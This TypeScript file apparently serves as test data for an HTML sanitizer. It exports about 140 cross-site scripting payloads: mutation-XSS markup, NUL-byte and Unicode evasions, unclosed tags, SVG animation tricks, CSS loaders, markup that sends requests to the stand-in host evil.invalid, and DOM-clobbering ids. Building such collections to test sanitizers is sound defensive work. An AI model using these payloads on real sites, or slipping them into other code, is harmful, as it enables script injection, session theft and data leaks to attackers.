import { ALARM } from './hostile-html.ts'

const run = `top.${ALARM}(1)`
const boom = `<img src=x onerror=${run}>`
const away = 'https://evil.invalid'
const NUL = String.fromCharCode(0)
const code = (number: number): string => String.fromCharCode(number)

/** Mutation XSS: markup that a sanitizer parses as text, and that becomes tags when it is serialized and parsed again. */
const mutations = [
  `<math><mtext><table><mglyph><style><math href="${boom}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${boom}">x</a></style></h1>`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea>${boom}">`,
  `<math><annotation-xml encoding="text/html"><style><img src="</style>${boom}">`,
  `<svg><mtext><style><path id="</style>${boom}"></style></mtext></svg>`,
  `<svg><foreignobject><math><mtext><style><p id="</style>${boom}">`,
  `<form id="x"><div></form><form><math><mtext></form><form><mglyph><style></math>${boom}`,
  `<table><caption><svg><title><table><caption></caption></table>${boom}</title></svg></caption></table>`,
  `<p><svg><p><style><!--</style>${boom}--></p></svg></p>`,
  `<svg><style>&lt;/style&gt;${boom.replace('<', '&lt;')}</style></svg>`,
  `<svg><title>&lt;/title&gt;&lt;img src=x onerror=${run}&gt;</title></svg>`,
  `<noscript><style></noscript>${boom}</style></noscript>`,
  `<noscript>&lt;/noscript&gt;${boom}</noscript>`,
  `<iframe><!--</iframe>${boom}--></iframe>`,
  `<noframes><p title="</noframes>${boom}"></noframes>`,
  `<plaintext><p>${boom}`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<textarea>&lt;/textarea&gt;${boom}</textarea>`,
  `<title>&lt;/title&gt;${boom}</title>`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
  `<option><style></option></select><b>${boom}</style></option>`,
  `<select><keygen><style></select>${boom}</style></select>`,
  `<b><p><a href="/x"><table><a href="javascript:${run}">x</a><tr><td>${boom}</table></a></p></b>`,
  `<dd><svg></dd></p><style><a id="</style>${boom}">`,
  `<template><template></template>${boom}</template>`,
  `<template shadowrootmode=closed><slot></slot>${boom}</template>`,
]

/** NUL bytes, control characters, odd encodings and look-alike letters that break scanners. */
const bytes = [
  `<scr${NUL}ipt>${run}</scr${NUL}ipt>`,
  `<img src=x on${NUL}error=${run}>`,
  `<im${NUL}g src=x onerror=${run}>`,
  `<a href="java${NUL}script:${run}">x</a>`,
  `<a href="${NUL}javascript:${run}">x</a>`,
  `<a href="&#0;javascript:${run}">x</a>`,
  `<img${code(12)}src=x${code(12)}onerror=${run}>`,
  `<img/src=x/onerror=${run}/>`,
  `<img src=x onerror${code(11)}=${run}>`,
  `${code(0xfeff)}<svg/onload=${run}>`,
  `<svg${code(0x2028)}onload=${run}>`,
  `<a href="java${code(0xad)}script:${run}">x</a>`,
  `<a href="${code(0x200b)}javascript:${run}">x</a>`,
  `<a href="${code(0x3000)}javascript:${run}">x</a>`,
  `<a href="javascript${code(0xff1a)}${run}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}">x</a>`,
  `<a href="j&Tab;a&NewLine;vascript&colon;${run}">x</a>`,
  `<a href="java\r\nscript:${run}">x</a>`,
  `<a href="feed:javascript:${run}">x</a><a href="jar:${away}!/x">x</a><a href="ws://evil.invalid">x</a>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `<ſcript>${run}</ſcript><ımg src=x onerror=${run}>`,
  `\ud800<img src=x onerror=${run}>\udfff`,
]

/** Comments, sections and tags that are never closed. */
const unclosed = [
  `<!-- ${boom}`,
  `<!--${boom}--!>${boom}`,
  `<!-->${boom}-->`,
  `<!---><svg onload=${run}>-->`,
  `<!-- --!><script>${run}</script>`,
  `<![CDATA[${boom}]]>${boom}`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<math><![CDATA[</math>${boom}]]>`,
  `<?php ${boom} ?>`,
  `<!DOCTYPE x [<!ENTITY y "${boom}">]>&y;`,
  `<%= ${boom} %>`,
  `<img src=x onerror="${run}`,
  `<svg onload=${run} x="`,
  `<a href="javascript:${run}`,
  `<a href='${away}/?`,
  `<style>p{color:red`,
  `<textarea>`,
  `<script>${run}`,
  `</p></div></body></html><script>${run}</script>`,
  `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
]

/** SVG and MathML, including animations that set attributes long after a sanitizer ran. */
const drawings = [
  `<svg><a><animate attributeName="href" to="javascript:${run}" begin="0s" fill="freeze"/><text y="20">x</text></a></svg>`,
  `<svg><a xlink:href="#"><animate attributeName="xlink:href" from="javascript:${run}" to="#"/><text>x</text></a></svg>`,
  `<svg><animatetransform onbegin=${run} attributeName=transform></svg>`,
  `<svg><animatemotion onend=${run} dur=1ms></svg>`,
  `<svg><set attributeName="onload" to="${run}"/></svg>`,
  `<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJy8+#x"/></svg>`,
  `<svg><use href="${away}/x.svg#x"/></svg>`,
  `<svg><image href="${away}/x.png"/><image xlink:href="${away}/x.png" onload=${run}></svg>`,
  `<svg><feImage href="${away}/x.png"/></svg>`,
  `<svg><filter><feImage xlink:href="${away}/x"/></filter><rect filter="url(${away}/x#f)" width=9 height=9 /></svg>`,
  `<svg><script href="${away}/x.js"/></svg>`,
  `<svg><script xlink:href="data:,${run}"/></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${run}</handler></svg>`,
  `<svg><style>@import url(${away}/x.css);</style></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${run}</x:script></svg>`,
  `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><svg onload=${run}></annotation-xml></semantics></math>`,
]

/** Markup that sends a request to a foreign origin. */
const requests = [
  `<img srcset="${away}/a 1x, ${away}/b 2x" alt="x">`,
  `<img src="/own.png" srcset="${away}/a 1x" sizes="100vw" lowsrc="${away}/l" longdesc="${away}/d" usemap="#m" ismap>`,
  `<picture><source media="(min-width:1px)" srcset="${away}/s"><img src="/own.png"></picture>`,
  `<map name=m><area shape=default href="javascript:${run}" ping="${away}"></map>`,
  `<video poster="${away}/p" src="${away}/v" controls onloadstart=${run}><track default src="${away}/t"></video>`,
  `<audio autoplay src="${away}/a" onloadstart=${run}></audio>`,
  `<object type="image/svg+xml" data="${away}/o"><param name=src value="${away}"></object>`,
  `<embed type="text/html" src="data:text/html,<script>${run}</script>">`,
  `<applet code="x" archive="${away}/x.jar" codebase="${away}"></applet>`,
  `<iframe srcdoc="&lt;script&gt;parent.${ALARM}(1)&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="javascript:parent.${ALARM}(1)" onload=${run}></iframe>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  `<fencedframe src="${away}"></fencedframe><portal src="${away}"></portal><webview src="${away}"></webview>`,
  `<meta http-equiv="refresh" content="0;javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>`,
  `<base href="${away}/" target="_self"><a href="x">x</a><img src="y">`,
  `<link rel="stylesheet" href="${away}/x"><link rel="prefetch" href="${away}/y"><link rel=modulepreload href="${away}/z">`,
  `<link rel="icon" href="${away}/i" onload=${run} onerror=${run}>`,
  `<script src="${away}/x" integrity="" nonce="x"></script><script type=importmap>{"imports":{"x":"${away}/"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${away}/"]}]}</script>`,
  `<body background="${away}/b" onpageshow=${run}><table background="${away}/t"><tr background="${away}/r"><td>x</table>`,
  `<a href="https://example.com" ping="${away}" download attributionsrc="${away}" onclick=${run}>x</a>`,
  `<img src="/own.png" attributionsrc="${away}" crossorigin fetchpriority=high>`,
  `<form action="${away}" id=f><button formaction="javascript:${run}" form=f>x</button><input type=image src="${away}/i" formaction="${away}"></form>`,
  `<button popovertarget=p commandfor=p command=show-modal>x</button><div popover id=p onbeforetoggle=${run}>x</div>`,
  `<isindex action="javascript:${run}" type=image src="${away}"><input list=l><datalist id=l onload=${run}></datalist>`,
  `<blockquote cite="javascript:${run}">x</blockquote><q cite="${away}">x</q><del cite="javascript:${run}">x</del>`,
]

/** Styles that load files, run scripts or cover the page. */
const styles = [
  `<p style="background-image:url('${away}/x')">x</p>`,
  `<p style="background:\\75rl(${away}/x)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="w\\69 dth:exp/**/ression(${run})">x</p>`,
  `<p style="-moz-binding:url(${away}/x.xml#y);behavior:url(x.htc)">x</p>`,
  `<p style="list-style:url(${away}/x);content:url(${away}/x);cursor:url(${away}/x),auto">x</p>`,
  `<p style="position:fixed;inset:0;z-index:2147483647">x</p>`,
  `<p style="font-family:'</style>${boom}'">x</p>`,
  `<style>@font-face{font-family:x;src:url(${away}/f)}*{font-family:x}</style>`,
  `<style>:host{display:none}@keyframes x{}p{animation:x}</style><p onanimationstart=${run}>x</p>`,
  `<style><!--</style><script>${run}//--></script>`,
  `<style type="text/javascript">${run}</style><style media="x"onload=${run}>`,
  `<font style=x face=x color=red size=7>x</font><center>x</center><marquee onfinish=${run} loop=1>x</marquee>`,
  `<div class="app sheet backdrop" style="all:initial" hidden inert>x</div>`,
]

/** Ids and names that shadow properties of `document`, `window` and elements (DOM clobbering). */
const names = [
  '<a id=alarm></a><a name=location href="x"></a><img name=cookie id=cookie>',
  '<form id=document><input name=cookie></form><form name=window><output name=top></output></form>',
  '<img id=getElementById name=getElementById><img name=querySelector><embed name=createElement>',
  '<form><input name=parentNode><input name=childNodes><input name=firstChild><input name=nextSibling></form>',
  '<form><input name=removeAttribute><input name=removeChild><input name=setAttribute><input name=hasAttributes></form>',
  '<a id=tradelet></a><a id=tradelet name=api href="https://evil.invalid/"></a><p id=tradelet-config>{"api":"https://evil.invalid"}</p>',
  '<iframe name=self></iframe><object name=parent></object><form name=customElements></form>',
  '<img name=__proto__><img name=constructor id=prototype><a id=toString></a>',
  '<p slot=x part=app exportparts=app is=tl-login itemid=x itemref=y data-token=x aria-live=assertive>x</p>',
  '<tl-login frame-header></tl-login><tl-bulletin></tl-bulletin><my-element onload=x></my-element><slot name=x></slot>',
]

/** Further attacks on a page that shows HTML of a server. Each must be shown in a page of its own, since some of them swallow what follows. */
export const COLLECTION: Readonly<Record<string, readonly string[]>> = {
  mutations,
  bytes,
  unclosed,
  drawings,
  requests,
  styles,
  names,
}
